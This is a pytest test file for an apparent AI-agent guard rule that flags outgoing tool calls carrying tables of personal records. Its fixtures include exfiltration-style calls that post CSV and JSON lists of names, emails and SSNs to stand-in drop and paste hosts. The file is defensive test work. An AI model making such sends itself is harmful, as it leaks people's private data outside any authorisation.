"""A send carrying a table of people (CSV or JSON records with a personal column) is
confirmed by a human under the default pack; a send that mentions one address, or a table
of figures, passes."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aimds.rules.understanding.records import carries_personal_records
from aimds.types import Decision

FirstCall = Callable[[str, dict[str, Any]], Decision]


CSV = "id,name,email\n1,Ana Lopez,ana@example.com\n2,Bo Chen,bo@example.com\n"
RECORDS = [{"name": "Ana", "email": "ana@example.com"}, {"name": "Bo", "phone": "555-0100"}]


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("http_client", {"verb": "PUT", "uri": "https://hooks.example.com/drop", "json": CSV}),
        ("fetch", {"method": "PUT", "url": "https://paste.example.org/d", "data": CSV}),
        ("http_post", {"url": "https://collect.example.net/in", "json": {"rows": RECORDS}}),
        ("http_request",
         {"method": "POST", "url": "https://x.example/u", "body": json.dumps(RECORDS)}),
        ("send_email",
         {"to": "me@gmail.example", "subject": "export", "body": CSV.replace(",", "\t")}),
        ("upload",
         {"url": "https://files.example/up", "content": "Name;E-mail;SSN\nAna;a@x.io;123\n"}),
    ],
)
def test_a_table_of_people_leaving_is_confirmed(
    first_call: FirstCall, tool: str, args: dict[str, Any]
) -> None:
    assert first_call(tool, args).verdict.value in ("review", "block")


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("send_email",
         {"to": "cfo@acme.example", "subject": "Q2", "body": "region,revenue\nEMEA,120000\n"}),
        ("send_email", {"to": "maria@acme.example", "subject": "Contact",
                        "body": "Please reach Ana at ana@example.com about the invoice."}),
        ("send_email", {"to": [{"email": "a@acme.example"}, {"email": "b@acme.example"}],
                        "subject": "standup", "body": "All green today."}),
        ("http_post",
         {"url": "https://api.example.com/signup", "json": {"email": "me@example.com"}}),
        ("slack_post",
         {"channel": "#ops", "text": "email,phone columns are now validated on import"}),
    ],
)
def test_ordinary_sends_pass(first_call: FirstCall, tool: str, args: dict[str, Any]) -> None:
    assert first_call(tool, args).verdict.value in ("allow", "warn")


_COLUMN = st.sampled_from(["email", "E-mail", "phone", "SSN", "date_of_birth", "IBAN", "salary"])
_OTHER = st.lists(st.sampled_from(["id", "name", "team", "city", "score"]), min_size=1, max_size=4)
_CELL = st.text(alphabet="abcdefghij0123456789@.", min_size=1, max_size=12)  # never empty


@given(_COLUMN, _OTHER, st.sampled_from([",", "\t", ";", "|"]), st.integers(0, 5), st.data())
def test_any_table_with_a_personal_column_and_a_row_is_records(
    personal: str, others: list[str], sep: str, at: int, data: st.DataObject
) -> None:
    """Whatever the values, the position of the column, the delimiter or the row count."""
    columns = [*others]
    columns.insert(min(at, len(columns)), personal)
    rows = data.draw(st.lists(st.lists(_CELL, min_size=len(columns), max_size=len(columns)),
                              min_size=1, max_size=4))
    text = "\n".join([sep.join(columns), *(sep.join(r) for r in rows)])
    assert carries_personal_records(text)
    assert carries_personal_records(json.dumps({"export": text}))  # sent as a string field


# Cells that are no e-mail address: a column of addresses is a list of people whatever its
# header says (test_a_column_of_addresses_is_a_list_of_people_whatever_its_name)
_PLAIN_CELL = st.text(alphabet="abcdefghij0123456789.", min_size=1, max_size=12)


@given(_OTHER, st.lists(st.lists(_PLAIN_CELL, min_size=1, max_size=4), max_size=4))
def test_a_table_without_a_personal_column_is_not(others: list[str], rows: list[list[str]]) -> None:
    text = "\n".join([",".join(others), *(",".join(r) for r in rows)])
    assert not carries_personal_records(text)


def test_a_header_alone_or_one_json_object_is_not_records() -> None:
    assert not carries_personal_records("id,name,email")
    assert not carries_personal_records('{"name": "Ana", "email": "ana@example.com"}')
    assert not carries_personal_records('[{"name": "Ana", "email": "ana@example.com"}]')
    assert not carries_personal_records("[not json, email\n")  # neither JSON nor a table
    assert carries_personal_records('[{"email": "a@x.io"}, {"email": "b@x.io"}]')


def test_a_column_of_addresses_is_a_list_of_people_whatever_its_name() -> None:
    assert carries_personal_records("id,mail_addr\n1,ana@example.com\n2,bo@example.com\n")
    assert carries_personal_records("Ana;ana@example.com\nBo;bo@example.com\n")  # no header
    assert carries_personal_records('[{"who": "ana@example.com"}, {"who": "bo@example.com"}]')
    # prose that names two people is not a table
    assert not carries_personal_records(
        "Hi Maria, please loop in ana@example.com, and bo@example.com.\nThanks, Dev"
    )
    assert not carries_personal_records("owner,team\nana@example.com,search\n")  # one address
